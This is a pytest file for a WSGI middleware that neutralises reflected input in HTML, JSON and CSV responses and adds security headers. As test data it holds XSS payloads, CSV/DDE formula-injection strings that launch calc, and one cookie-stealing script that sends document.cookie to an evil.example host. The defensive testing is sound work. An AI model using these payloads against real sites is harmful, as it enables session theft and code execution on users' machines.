"""escaping: reflected input neutralised per context, JSON escaping, CSV formulas, safe
headers, streaming bounds, events, configuration.

The Flask legacy example is driven through ``tests/ini/escaping_*.ini`` (PasteDeploy, as
``wsgisec serve`` loads it); contexts the example lacks (script strings, template
literals, unquoted attributes, event handlers, ...) are served by a small bare WSGI app.
"""

from __future__ import annotations

import gzip
import json
import pathlib
import string

import pytest
from hypothesis import HealthCheck, given, settings as hsettings, strategies as st
from webtest import TestApp

from conftest import ClosingBody, exc_info_app, validated
from wsgisec import pipeline
from wsgisec.escaping import (CSVNeutralizer, Escaping, REFLECTED_INPUT_ESCAPED, escape_json,
                              filter_factory)
from wsgisec.escaping.reflection import BLOCKED_URL, Candidate, dangerous_url, is_candidate, neutralise
from wsgisec.settings import ConfigurationError

INI = pathlib.Path(__file__).resolve().parents[1] / "ini"


# -- a bare app with one page per context ---------------------------------------------

PAGES = {
    "/text": "<p>Hello {v}</p>",
    "/attr-dq": '<input id="i" value="{v}">',
    "/attr-sq": "<input id='i' value='{v}'>",
    "/attr-unquoted": "<input id=i value={v}>",
    "/href": '<a id="link" href="{v}">go</a>',
    "/href-unquoted": "<a id=link href={v}>go</a>",
    "/event": '<script>function search(q) {}</script><button id="b" onclick="search(\'{v}\')">go</button>',
    "/script-dq": '<script>var q = "{v}";</script>',
    "/script-sq": "<script>var q = '{v}';</script>",
    "/template": "<script>var q = `Results for {v}`;</script>",
    "/script-code": "<script>var limit = {v};</script>",
    "/script-comment": "<script>var x = 1; // searched: {v}\nvar y = 2;</script>",
    "/title": "<title>{v}</title><p>x</p>",
    "/textarea": "<textarea>{v}</textarea>",
    "/style": "<style>p { color: red } {v}</style><p>x</p>",
    "/comment": "<!-- searched: {v} --><p>x</p>",
    "/srcdoc": '<iframe srcdoc="{v}"></iframe>',
    "/tag": "<input {v}>",
}
HEAD = "<!DOCTYPE html><html><head><meta charset=utf-8></head><body>"
TAIL = "</body></html>"


def page_for(path, value):
    return (HEAD + PAGES[path].replace("{v}", value) + TAIL).encode("utf-8")


def contexts_app(environ, start_response):
    """Reflects query parameter ``v`` unescaped into the page named by the path."""
    from urllib.parse import parse_qs

    query = environ.get("QUERY_STRING", "").encode("latin-1").decode("utf-8")
    value = parse_qs(query, keep_blank_values=True).get("v", [""])[0]
    body = page_for(environ["PATH_INFO"], value)
    start_response("200 OK", [("Content-Type", "text/html; charset=utf-8"),
                              ("Content-Length", str(len(body)))])
    return [body]


def bare(**kw):
    return TestApp(validated(Escaping(contexts_app, **kw)))


# Payloads that run script in the unprotected page (tests/test_escaping_browser.py shows
# that they do), with what the layer must turn them into.
CONTEXT_CASES = [
    pytest.param("/text", '<img src=x onerror="window.__xss=1">',
                 "<p>Hello &lt;img src=x onerror=&#34;window.__xss=1&#34;&gt;</p>", id="element-text"),
    pytest.param("/attr-dq", '"><img src=x onerror="window.__xss=1">',
                 'value="&#34;&gt;&lt;img src=x onerror=&#34;window.__xss=1&#34;&gt;"', id="attribute-double-quoted"),
    pytest.param("/attr-sq", "'><img src=x onerror=window.__xss=1>",
                 "value='&#39;&gt;&lt;img src=x onerror=window.__xss=1&gt;'", id="attribute-single-quoted"),
    pytest.param("/attr-unquoted", "x autofocus onfocus=window.__xss=1",
                 "value=x&#x20;autofocus&#x20;onfocus&#x3d;window&#x2e;&#x5f;&#x5f;xss&#x3d;1>",
                 id="attribute-unquoted"),
    pytest.param("/href", "javascript:window.__xss=1", f'href="{BLOCKED_URL}"', id="href-javascript"),
    pytest.param("/href", " JaVa\tScRiPt:window.__xss=1", f'href="{BLOCKED_URL}"', id="href-javascript-obfuscated"),
    pytest.param("/href", "&#106;avascript:window.__xss=1", f'href="{BLOCKED_URL}"', id="href-javascript-entity"),
    pytest.param("/href", "data:text/html,<script>parent.__xss=1</script>", f'href="{BLOCKED_URL}"', id="href-data-html"),
    pytest.param("/href", "vbscript:msgbox(1)", f'href="{BLOCKED_URL}"', id="href-vbscript"),
    pytest.param("/href-unquoted", "javascript:window.__xss=1", f"href={BLOCKED_URL}>", id="href-unquoted-javascript"),
    pytest.param("/event", "');window.__xss=1;('",
                 "search('\\u0027\\u0029\\u003bwindow.__xss\\u003d1\\u003b\\u0028\\u0027')", id="event-handler"),
    pytest.param("/script-dq", '";window.__xss=1;"',
                 'var q = "\\u0022\\u003bwindow.__xss\\u003d1\\u003b\\u0022";', id="script-string-double"),
    pytest.param("/script-dq", "</script><img src=x onerror=window.__xss=1>",
                 'var q = "\\u003c\\u002fscript\\u003e\\u003cimg src\\u003dx onerror\\u003dwindow.__xss\\u003d1\\u003e";',
                 id="script-string-breakout"),
    pytest.param("/script-sq", "';window.__xss=1;'",
                 "var q = '\\u0027\\u003bwindow.__xss\\u003d1\\u003b\\u0027';", id="script-string-single"),
    pytest.param("/template", "${window.__xss=1}",
                 "var q = `Results for \\u0024\\u007bwindow.__xss\\u003d1\\u007d`;", id="template-literal"),
    pytest.param("/template", "`;window.__xss=1;`",
                 "var q = `Results for \\u0060\\u003bwindow.__xss\\u003d1\\u003b\\u0060`;", id="template-backtick"),
    pytest.param("/script-code", "window.__xss=1", 'var limit = "window.__xss\\u003d1";', id="script-code"),
    pytest.param("/script-comment", "x\nwindow.__xss=1",
                 "// searched: x\\u000awindow.__xss\\u003d1\nvar y", id="script-line-comment"),
    pytest.param("/title", "</title><img src=x onerror=window.__xss=1>",
                 "<title>&lt;/title&gt;&lt;img src=x onerror=window.__xss=1&gt;</title>", id="title-rcdata"),
    pytest.param("/textarea", "</textarea><img src=x onerror=window.__xss=1>",
                 "<textarea>&lt;/textarea&gt;&lt;img src=x onerror=window.__xss=1&gt;</textarea>", id="textarea-rcdata"),
    pytest.param("/style", "</style><img src=x onerror=window.__xss=1>",
                 "} \\3c /style>\\3c img src=x onerror=window.__xss=1></style>", id="style"),
    pytest.param("/comment", "--><img src=x onerror=window.__xss=1>",
                 "<!-- searched: --&gt;&lt;img src=x onerror=window.__xss=1&gt; -->", id="comment"),
    pytest.param("/srcdoc", "<img src=x onerror=parent.__xss=1>",
                 'srcdoc="&amp;lt;img src=x onerror=parent.__xss=1&amp;gt;"', id="iframe-srcdoc"),
    pytest.param("/tag", "autofocus onfocus=window.__xss=1",
                 "<input autofocus_onfocus_window___xss_1>", id="inside-tag"),
]


@pytest.mark.parametrize("path, payload, expected", CONTEXT_CASES)
def test_reflection_is_neutralised_for_its_context(path, payload, expected):
    unprotected = TestApp(validated(contexts_app)).get(path, params={"v": payload})
    assert payload.encode() in unprotected.body  # the app really is vulnerable here
    response = bare().get(path, params={"v": payload})
    assert expected.encode() in response.body, response.text
    assert payload.encode() not in response.body
    assert response.headers["Content-Length"] == str(len(response.body))


@pytest.mark.parametrize("path, value", [
    pytest.param("/text", "Tom & Jerry's (new)", id="text-ampersand-quote"),
    pytest.param("/attr-dq", "it's = fine; (really)", id="attr-dq-apostrophe"),
    pytest.param("/attr-sq", 'say "hi" = ok', id="attr-sq-double-quote"),
    pytest.param("/href", "/search?q=a&b=(c)", id="href-relative-url"),
    pytest.param("/href", "data:image/png;base64,iVBORw0KGgo=", id="href-data-image"),
    pytest.param("/href", "https://example.com/a?b=c&d=(e)", id="href-https"),
    pytest.param("/script-dq", "it's (fine) = ok; `yes` ${x}", id="script-dq-other-quotes"),
    pytest.param("/script-sq", 'say "hi" (x) = y', id="script-sq-other-quotes"),
    pytest.param("/template", "it's \"fine\" (x) $5 {y}", id="template-no-backtick"),
    pytest.param("/comment", "a & b (c) = 'd'", id="comment-no-close"),
    pytest.param("/text", "&lt;script&gt;alert(1)&lt;/script&gt;", id="already-escaped"),
    pytest.param("/text", "plain words", id="no-special-character"),
])
def test_harmless_reflection_stays_byte_identical(path, value):
    unprotected = TestApp(contexts_app).get(path, params={"v": value})
    response = bare().get(path, params={"v": value})
    assert response.body == unprotected.body


def test_already_escaped_occurrence_is_not_escaped_twice():
    from markupsafe import escape

    payload = "<b>bold</b>"

    def app(environ, start_response):
        body = f"<p>{escape(payload)}</p><p>{payload}</p>".encode()
        start_response("200 OK", [("Content-Type", "text/html")])
        return [body]

    response = TestApp(validated(Escaping(app))).get("/", params={"q": payload})
    assert response.text == "<p>&lt;b&gt;bold&lt;/b&gt;</p><p>&lt;b&gt;bold&lt;/b&gt;</p>"


def test_payload_cannot_change_the_context_it_is_judged_in():
    # The first reflection opens an attribute; the second must still be judged as text.
    text = '<p>A</p><p>B</p>'.replace("A", '<a title="').replace("B", "<script>x()</script>")
    out, findings = neutralise(text, [Candidate("query", "a", '<a title="'),
                                      Candidate("query", "b", "<script>x()</script>")])
    assert out == "<p>&lt;a title=&#34;</p><p>&lt;script&gt;x()&lt;/script&gt;</p>"
    assert [f.context for f in findings] == ["text", "text"]


@pytest.mark.parametrize("value, expected", [
    pytest.param("ab<", False, id="too-short-rule-is-min-length"),
    pytest.param("abc", False, id="no-special"),
    pytest.param("a<b", True, id="angle"),
    pytest.param("x=1", True, id="equals"),
    pytest.param("${x}", True, id="template"),
    pytest.param("javascript:void", True, id="scheme"),
    pytest.param("data:image/png,xx", False, id="image-data-url"),
])
def test_candidate_rule(value, expected):
    assert is_candidate(value, 3 if value != "ab<" else 4) is expected


@pytest.mark.parametrize("url, dangerous", [
    ("javascript:alert(1)", True), ("\x01 javascript:x", True), ("java\nscript:x", True),
    ("&#x6A;avascript:x", True), ("VBScript:x", True), ("data:text/html,x", True),
    ("data:image/svg+xml,<svg onload=x>", True), ("data:image/gif;base64,R0lG", False),
    ("https://example.com/javascript:x", False), ("/path:with:colons", False), ("mailto:a@b", False),
])
def test_dangerous_url(url, dangerous):
    assert dangerous_url(url) is dangerous


# -- the Flask example through PasteDeploy -------------------------------------------

@pytest.fixture
def flask_app(store_url):
    return pipeline.load(str(INI / "escaping_flask.ini"), global_conf={"wsgisec_store": store_url})


@pytest.fixture
def plain_flask():
    from flask_legacy.app import create_app

    return create_app()


def test_ini_builds_the_layer(flask_app):
    assert isinstance(flask_app, Escaping)
    assert flask_app.settings["max_buffer"] == 1024 * 1024
    assert flask_app.settings["reflect_sources"] == sorted(["query", "form", "json", "path", "headers"])
    assert flask_app.warnings() == []


FLASK_CASES = [
    pytest.param("/search", {"q": "<script>window.__xss=1</script>"},
                 b"<h1>Results for &lt;script&gt;window.__xss=1&lt;/script&gt;</h1>", id="search-q-text"),
    pytest.param("/search", {"next": "javascript:window.__xss=1"},
                 f'<a href="{BLOCKED_URL}">back</a>'.encode(), id="search-next-href"),
    pytest.param("/search", {"next": '" onmouseover="window.__xss=1'},
                 b'<a href="&#34; onmouseover=&#34;window.__xss=1">back</a>', id="search-next-breakout"),
    pytest.param("/api/items.xml", {"q": '"><x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__xss=1</x:script><a b="'},
                 b'<items query="&#34;&gt;&lt;x:script xmlns:x=&#34;http://www.w3.org/1999/xhtml&#34;&gt;'
                 b'window.__xss=1&lt;/x:script&gt;&lt;a b=&#34;">', id="items-xml-attribute"),
]


@pytest.mark.parametrize("path, params, expected", FLASK_CASES)
def test_flask_vulnerable_pages(flask_app, plain_flask, path, params, expected):
    payload = next(iter(params.values())).encode()
    assert payload in TestApp(plain_flask).get(path, params=params).body
    response = TestApp(validated(flask_app)).get(path, params=params)
    assert expected in response.body
    assert payload not in response.body


def test_flask_notes_form_field(flask_app):
    app = TestApp(validated(flask_app))
    payload = "<img src=x onerror=window.__xss=1>"
    response = app.post("/notes", {"note": payload})
    assert b"<li>&lt;img src=x onerror=window.__xss=1&gt;</li>" in response.body


@pytest.mark.parametrize("path", ["/", "/healthz", "/search?q=widget&next=/api/items",
                                  "/search?q=Tom+%26+Jerry%27s", "/api/items.xml?q=gadget",
                                  "/api/items.xml?q=O%27Brien", "/api/export.csv", "/notes", "/api/whoami"])
def test_ordinary_pages_are_byte_identical(flask_app, plain_flask, path):
    before = TestApp(plain_flask).get(path)
    after = TestApp(validated(flask_app)).get(path)
    assert after.body == before.body
    assert after.headers["X-Content-Type-Options"] == "nosniff"
    assert after.headers["Server"] == before.headers["Server"]  # the app's headers stay


@pytest.mark.parametrize("path", ["/api/items", "/api/items?q=Widget", "/api/items?q=o%27b", "/api/items/3"])
def test_ordinary_json_parses_to_the_same_value(flask_app, plain_flask, path):
    before = TestApp(plain_flask).get(path)
    after = TestApp(validated(flask_app)).get(path)
    assert json.loads(after.body) == json.loads(before.body)
    assert b"'" not in after.body


@hsettings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(q=st.text(alphabet=string.ascii_letters + string.digits + " -_.,:/?!", max_size=40))
def test_search_without_special_characters_is_byte_identical(flask_app, plain_flask, q):
    before = TestApp(plain_flask).get("/search", params={"q": q, "next": "/" + q})
    after = TestApp(flask_app).get("/search", params={"q": q, "next": "/" + q})
    assert after.body == before.body


def call(app, method="GET", path="/", **environ):
    """Call ``app`` under wsgiref.validate without WebTest (which rewrites some headers):
    ``(status, {lowercased name: value}, body)``."""
    import io
    from wsgiref.util import setup_testing_defaults

    env = {"REQUEST_METHOD": method, "SCRIPT_NAME": "", "PATH_INFO": path, "QUERY_STRING": "",
           "wsgi.input": io.BytesIO()}
    env.update(environ)
    setup_testing_defaults(env)
    seen = {}

    def start_response(status, headers, exc_info=None):
        seen["status"], seen["headers"] = status, headers
        return lambda data: None

    iterable = validated(app)(env, start_response)
    try:
        body = b"".join(iterable)
    finally:
        iterable.close()
    return seen["status"], {k.lower(): v for k, v in seen["headers"]}, body


# -- JSON ---------------------------------------------------------------------------

def json_app(body: bytes, content_type="application/json", extra=()):
    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", content_type), ("Content-Length", str(len(body))),
                                  *extra])
        return [body]

    return app


@hsettings(max_examples=150, deadline=None)
@given(value=st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(alphabet=st.characters(blacklist_categories=("Cs",))),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12))
def test_json_stays_equal_and_becomes_inert(value):
    body = json.dumps(value, ensure_ascii=False).encode("utf-8")
    response = TestApp(validated(Escaping(json_app(body)))).get("/")
    assert json.loads(response.body) == value
    for char in (b"<", b">", b"&", b"'", "\u2028".encode(), "\u2029".encode()):
        assert char not in response.body
    assert response.headers["Content-Length"] == str(len(response.body))


@pytest.mark.parametrize("body, expected", [
    pytest.param(b'{"q": "</script><script>alert(1)</script>"}',
                 b'{"q": "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', id="script-tag"),
    pytest.param(b"{\"q\": \"O'Brien & <Co>\"}", b'{"q": "O\\u0027Brien \\u0026 \\u003cCo\\u003e"}', id="all-four"),
    pytest.param('{"q": "a\u2028b\u2029c"}'.encode(), b'{"q": "a\\u2028b\\u2029c"}', id="line-separators"),
    pytest.param(b'{"q": "a"b<img src=x onerror=alert(1)>"}',
                 b'{"q": "a"b\\u003cimg src=x onerror=alert(1)\\u003e"}', id="invalid-concatenated-json"),
    pytest.param(b'{"id": 1, "price": 9.5}', b'{"id": 1, "price": 9.5}', id="nothing-to-escape"),
])
def test_json_escaping_without_parsing(body, expected):
    # Escaping alone (check_structure would mask the invalid one: tests/escaping/test_structure.py).
    response = TestApp(validated(Escaping(json_app(body), check_structure=False))).get("/")
    assert response.body == expected


def test_json_escaping_of_the_flask_concatenated_json(flask_app):
    response = TestApp(validated(flask_app)).get("/api/items", params={"q": "<img src=x onerror=alert(1)>'"})
    assert json.loads(response.body) == {"query": "<img src=x onerror=alert(1)>'", "items": []}
    assert b"<" not in response.body and b"'" not in response.body


@pytest.mark.parametrize("content_type", ["application/problem+json", "application/vnd.api+json",
                                          "application/json; charset=utf-8"])
def test_json_variants_are_escaped(content_type):
    response = TestApp(validated(Escaping(json_app(b'["<"]', content_type)))).get("/", expect_errors=True)
    assert response.body == b'["\\u003c"]'


def test_json_escape_off():
    response = TestApp(validated(Escaping(json_app(b'["<"]'), json_escape=False))).get("/")
    assert response.body == b'["<"]'


def test_large_json_is_escaped_while_streaming_with_split_separators():
    chunk = ("x" * 1023 + "\u2028").encode()  # 1026 bytes: the separator straddles chunks
    chunks = [b'["'] + [chunk[:1024], chunk[1024:]] * 8 + [b'<"]']

    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", "application/json"), ("ETag", '"v1"')])
        return iter(chunks)

    status, headers, body = call(Escaping(app, max_buffer=2048))
    assert "content-length" not in headers and "etag" not in headers
    assert json.loads(body) == json.loads(b"".join(chunks))
    assert b"\xe2" not in body and b"<" not in body


def test_large_json_with_content_length_streams_at_once():
    body = b'["' + b"<" * 5000 + b'"]'
    status, headers, out = call(Escaping(json_app(body), max_buffer=1024))
    assert json.loads(out) == json.loads(body)
    assert "content-length" not in headers


# -- CSV ----------------------------------------------------------------------------

@pytest.mark.parametrize("cell, expected", [
    pytest.param(b"=1+1", b"\"'=1+1\"", id="equals"),
    pytest.param(b'"=HYPERLINK(""http://evil.example"",""x"")"', b'"\'=HYPERLINK(""http://evil.example"",""x"")"',
                 id="quoted-hyperlink"),
    pytest.param(b"+1+cmd|' /C calc'!A0", b"\"'+1+cmd|' /C calc'!A0\"", id="plus-dde"),
    pytest.param(b"-2+3+cmd|' /C calc'!A0", b"\"'-2+3+cmd|' /C calc'!A0\"", id="minus-dde"),
    pytest.param(b"@SUM(1+1)*cmd|' /C calc'!A0", b"\"'@SUM(1+1)*cmd|' /C calc'!A0\"", id="at"),
    pytest.param(b"\t=1+1", b"\"'\t=1+1\"", id="tab"),
    pytest.param(b"\"=1+1\"", b"\"'=1+1\"", id="quoted-equals"),
    pytest.param(b"\"\r=1+1\"", b"\"'\r=1+1\"", id="quoted-carriage-return"),
    pytest.param(b"\"a,=1\"", b"\"a,=1\"", id="comma-inside-quotes-is-not-a-cell-start"),
    pytest.param(b"-5", b"-5", id="negative-number"),
    pytest.param(b"+3.5e2", b"+3.5e2", id="signed-number"),
    pytest.param(b"a=b", b"a=b", id="not-at-start"),
])
def test_csv_cells(cell, expected):
    body = b"id,name,note\r\n1," + cell + b",x\r\n2,plain,y\r\n"
    response = TestApp(validated(Escaping(json_app(body, "text/csv")))).get("/")
    assert response.body == b"id,name,note\r\n1," + expected + b",x\r\n2,plain,y\r\n"


def test_csv_first_and_last_cells_and_tsv():
    neutralize = CSVNeutralizer("=+-@\t\r")
    assert neutralize(b"=1,a\n-x,=2")[0] == b"\"'=1\",a\n\"'-x\",\"'=2\""
    tsv = CSVNeutralizer("=+-@\t\r", b"\t")
    assert tsv(b"a\t=1\t+b\n")[0] == b"a\t\"'=1\"\t\"'+b\"\n"


def test_flask_export_with_formula_names(flask_app, monkeypatch):
    import flask_legacy.app as legacy

    monkeypatch.setattr(legacy, "ITEMS", legacy.ITEMS + [
        {"id": 4, "name": "=HYPERLINK(\"http://evil.example\")", "price": -1.5}])
    response = TestApp(validated(flask_app)).get("/api/export.csv")
    assert response.body.endswith(b"4,\"'=HYPERLINK(\"\"http://evil.example\"\")\",-1.5\r\n")


def test_csv_settings():
    body = b"=1,+2,@3\r\n"
    only_equals = TestApp(Escaping(json_app(body, "text/csv"), csv_formula_prefixes="=")).get("/")
    assert only_equals.body == b"\"'=1\",+2,@3\r\n"
    off = TestApp(Escaping(json_app(body, "text/csv"), csv_neutralize=False)).get("/")
    assert off.body == body


# -- headers ------------------------------------------------------------------------

def test_default_headers_on_html(plain_flask):
    response = TestApp(validated(Escaping(plain_flask))).get("/")
    h = response.headers
    assert h["X-Content-Type-Options"] == "nosniff"
    assert h["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert h["X-Frame-Options"] == "DENY"
    assert h["Cross-Origin-Opener-Policy"] == "same-origin"
    assert h["Permissions-Policy"].startswith("camera=()")
    assert "frame-ancestors 'none'" in h["Content-Security-Policy-Report-Only"]
    assert "Content-Security-Policy" not in h


def test_csp_is_for_documents_only(plain_flask):
    response = TestApp(validated(Escaping(plain_flask))).get("/api/items")
    assert "Content-Security-Policy-Report-Only" not in response.headers
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_app_headers_are_never_overwritten():
    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/html; charset=latin-1"),
                                  ("X-Frame-Options", "SAMEORIGIN"),
                                  ("Content-Security-Policy-Report-Only", "default-src *"),
                                  ("Referrer-Policy", "no-referrer")])
        return [b"<p>x</p>"]

    h = TestApp(validated(Escaping(app))).get("/").headers
    assert h["X-Frame-Options"] == "SAMEORIGIN"
    assert h["Content-Security-Policy-Report-Only"] == "default-src *"
    assert h["Referrer-Policy"] == "no-referrer"
    assert h["Content-Type"] == "text/html; charset=latin-1"


@pytest.mark.parametrize("content_type, expected", [
    ("text/plain", "text/plain; charset=utf-8"),
    ("text/csv", "text/csv; charset=utf-8"),
    ("text/html; charset=iso-8859-1", "text/html; charset=iso-8859-1"),
    ("application/json", "application/json"),
    ("image/png", "image/png"),
])
def test_charset_added_to_text_types(content_type, expected):
    # (b"1": a body every one of these types may carry; an invalid JSON one is masked.)
    response = TestApp(validated(Escaping(json_app(b"1", content_type)))).get("/")
    assert response.headers["Content-Type"] == expected


def test_every_setting_from_the_ini(store_url):
    app = pipeline.load(str(INI / "escaping_all_settings.ini"), global_conf={"wsgisec_store": store_url})
    assert app.settings["max_buffer"] == 256 * 1024
    assert app.settings["min_reflect_length"] == 4
    assert app.settings["csv_formula_prefixes"] == "=+-@\t\r"
    web = TestApp(validated(app))

    index = web.get("/").headers
    assert index["Content-Security-Policy"] == ("default-src 'self'; object-src 'none'; base-uri 'self'; "
                                                "frame-ancestors 'none'; report-uri /_wsgisec/reports/csp; "
                                                "report-to wsgisec-csp")
    assert index["Reporting-Endpoints"] == 'wsgisec-csp="/_wsgisec/reports/csp"'
    assert index["Referrer-Policy"] == "no-referrer"
    assert index["X-Frame-Options"] == "SAMEORIGIN"
    assert index["Cross-Origin-Opener-Policy"] == "same-origin-allow-popups"
    assert index["Permissions-Policy"] == "geolocation=()"

    assert web.get("/api/items").headers["X-Frame-Options"] == "DENY"  # /api override
    assert "X-Frame-Options" not in web.get("/api/items.xml").headers  # longer prefix: off
    search = web.get("/search").headers
    assert search["Content-Security-Policy"] == "default-src 'none'; style-src 'self'"
    assert "Content-Security-Policy-Report-Only" not in search
    assert web.get("/api/export.csv").headers["Content-Disposition"] == "attachment"
    assert "Content-Disposition" not in web.get("/api/items").headers

    # reflect_headers names X-Search; min_reflect_length 4 lets "<b>" through.
    def echo(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/html")])
        return [("<p>" + environ.get("HTTP_X_SEARCH", "") + environ.get("QUERY_STRING", "") + "</p>").encode()]

    echoing = TestApp(validated(Escaping(echo, reflect_headers=("X-Search",), min_reflect_length=4)))
    assert echoing.get("/", headers={"X-Search": "<svg onload=x>"}).body == b"<p>&lt;svg onload=x&gt;</p>"
    assert echoing.get("/?<b>").body == b"<p><b></p>"


def test_headers_can_be_switched_off():
    app = Escaping(json_app(b"<p>x</p>", "text/html"), content_security_policy="", referrer_policy="",
                   frame_options="off", cross_origin_opener_policy="", permissions_policy="")
    h = TestApp(validated(app)).get("/").headers
    for name in ("Content-Security-Policy-Report-Only", "Referrer-Policy", "X-Frame-Options",
                 "Cross-Origin-Opener-Policy", "Permissions-Policy"):
        assert name not in h
    assert h["X-Content-Type-Options"] == "nosniff"
    assert len(app.warnings()) == 2


# -- sources ------------------------------------------------------------------------

def echo_app(pick):
    def app(environ, start_response):
        length = int(environ.get("CONTENT_LENGTH") or 0)
        body = environ["wsgi.input"].read(length) if length else b""
        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8")])
        return [b"<p>" + pick(environ, body) + b"</p>"]

    return app


def test_json_body_strings_are_sources():
    app = echo_app(lambda env, body: json.loads(body)["items"][0]["name"].encode())
    response = TestApp(validated(Escaping(app))).post_json("/", {"items": [{"name": "<svg onload=x>"}]})
    assert response.body == b"<p>&lt;svg onload=x&gt;</p>"


def test_the_app_still_reads_the_body():
    app = echo_app(lambda env, body: body)
    response = TestApp(validated(Escaping(app))).post("/", {"a": "1"})
    assert response.body == b"<p>a=1</p>"


def test_path_segments_are_sources():
    app = echo_app(lambda env, body: ("no page " + env["PATH_INFO"]).encode("latin-1"))
    response = TestApp(validated(Escaping(app))).get("/files/%3Cimg%20src=x%20onerror=alert(1)%3E")
    assert response.body == b"<p>no page /files/&lt;img src=x onerror=alert(1)&gt;</p>"


def test_referer_is_a_source():
    app = echo_app(lambda env, body: env["HTTP_REFERER"].encode("latin-1"))
    response = TestApp(validated(Escaping(app))).get("/", headers={"Referer": "http://x/<script>1</script>"})
    assert response.body == b"<p>http://x/&lt;script&gt;1&lt;/script&gt;</p>"


def test_sources_can_be_limited():
    app = echo_app(lambda env, body: env["HTTP_REFERER"].encode("latin-1"))
    response = TestApp(validated(Escaping(app, reflect_sources=("query",)))).get(
        "/", headers={"Referer": "<script>1</script>"})
    assert response.body == b"<p><script>1</script></p>"


def test_parameter_names_are_sources():
    app = echo_app(lambda env, body: env["QUERY_STRING"].split("=")[0].replace("%3C", "<").replace("%3E", ">").encode())
    response = TestApp(validated(Escaping(app))).get("/?%3Cb%3E=1")
    assert response.body == b"<p>&lt;b&gt;</p>"


# -- events -------------------------------------------------------------------------

def test_event_names_the_parameter_never_the_payload(store):
    payload = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    app = Escaping(contexts_app, store=store)
    TestApp(validated(app)).get("/text", params={"v": payload})
    found = [e for e in store.events() if e["code"] == REFLECTED_INPUT_ESCAPED]
    assert len(found) == 1
    event = found[0]
    assert event["detail"]["parameter"] == "v"
    assert event["detail"]["source"] == "query"
    assert event["detail"]["contexts"] == "text"
    assert event["detail"]["length"] == len(payload)
    assert event["path"] == "/text"
    assert "evil" not in json.dumps(event) and "script" not in json.dumps(event)


def test_event_does_not_repeat_a_hostile_parameter_name(store):
    app = echo_app(lambda env, body: b"<img src=x onerror=alert(1)>")
    TestApp(validated(Escaping(app, store=store))).get("/", params={"<img src=x onerror=alert(1)>": "1"})
    (event,) = [e for e in store.events() if e["code"] == REFLECTED_INPUT_ESCAPED]
    assert "onerror" not in json.dumps(event)
    assert event["detail"]["parameter"] == "<unusual name, 28 chars>"


def test_no_event_when_nothing_reflected(store):
    TestApp(validated(Escaping(contexts_app, store=store))).get("/text", params={"v": "hello"})
    assert store.events() == []


# -- streaming, bounds and the WSGI contract -----------------------------------------



def chunked_app(chunks, content_type="text/html; charset=utf-8", headers=(), holder=None):
    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", content_type), *headers])
        iterable = ClosingBody(chunks)
        if holder is not None:
            holder.append(iterable)
        return iterable

    return app


def test_reflection_split_across_chunks_is_found():
    holder = []
    chunks = [b"<p>", b"<scr", b"ipt>alert(1)</scr", b"ipt></p>"]
    app = Escaping(chunked_app(chunks, headers=[("ETag", '"abc"'), ("Content-Length", "30")], holder=holder))
    response = TestApp(validated(app)).get("/", params={"q": "<script>alert(1)</script>"})
    assert response.body == b"<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert response.headers["Content-Length"] == str(len(response.body))
    assert "ETag" not in response.headers
    assert holder[0].closed


def test_untouched_html_keeps_etag_and_is_closed():
    holder = []
    app = Escaping(chunked_app([b"<p>hi</p>"], headers=[("ETag", '"abc"')], holder=holder))
    response = TestApp(validated(app)).get("/")
    assert response.headers["ETag"] == '"abc"'
    assert holder[0].closed


def test_unchanged_body_with_candidates_keeps_etag():
    app = Escaping(chunked_app([b"<p>hi</p>"], headers=[("ETag", '"abc"')]))
    response = TestApp(validated(app)).get("/", params={"q": "<b>"})
    assert response.headers["ETag"] == '"abc"'
    assert response.body == b"<p>hi</p>"


def test_pass_through_returns_the_apps_own_iterable():
    iterable = ClosingBody([b"\x89PNG"])

    def app(environ, start_response):
        start_response("200 OK", [("Content-Type", "image/png")])
        return iterable

    assert Escaping(app)({"PATH_INFO": "/", "REQUEST_METHOD": "GET", "QUERY_STRING": "q=<b>"},
                         lambda *a: None) is iterable


def test_html_larger_than_max_buffer_is_neutralised_in_a_window():
    holder = []
    chunks = [b"<p><script>alert(1)</script>" + b"x" * 600] * 4
    app = Escaping(chunked_app(chunks, headers=[("ETag", '"v"')], holder=holder), max_buffer=1024)
    status, headers, body = call(app, QUERY_STRING="q=%3Cscript%3Ealert(1)%3C/script%3E")
    expected, _ = neutralise(b"".join(chunks).decode(), [Candidate("query", "q", "<script>alert(1)</script>")])
    assert body == expected.encode()
    assert "content-length" not in headers and "etag" not in headers
    assert holder[0].closed


def test_html_with_large_content_length_is_streamed_not_buffered():
    body = b"<p><script>alert(1)</script></p>" + b"x" * 2000
    app = Escaping(json_app(body, "text/html"), max_buffer=1024)
    status, headers, out = call(app, QUERY_STRING="q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert out == b"<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>" + b"x" * 2000
    assert "content-length" not in headers


def test_large_html_without_candidates_is_untouched():
    body = b"<p><script>alert(1)</script></p>" + b"x" * 2000
    status, headers, out = call(Escaping(json_app(body, "text/html"), max_buffer=1024), QUERY_STRING="q=x")
    assert out == body and headers["content-length"] == str(len(body))


def test_large_csv_is_neutralised_record_by_record():
    body = b'=1+1,"multi\r\n=line",x\r\n' * 300
    status, headers, out = call(Escaping(json_app(body, "text/csv"), max_buffer=1024))
    assert out == b'"\'=1+1","multi\r\n=line",x\r\n' * 300
    assert "content-length" not in headers


@hsettings(max_examples=150, deadline=None)
@given(rows=st.lists(st.lists(st.sampled_from(["=1+1", "-5", "a,b", 'say "hi"', "x\r\n=y", "@z", "plain", ""]),
                              min_size=1, max_size=4), min_size=1, max_size=12),
       cuts=st.lists(st.integers(1, 300), max_size=8))
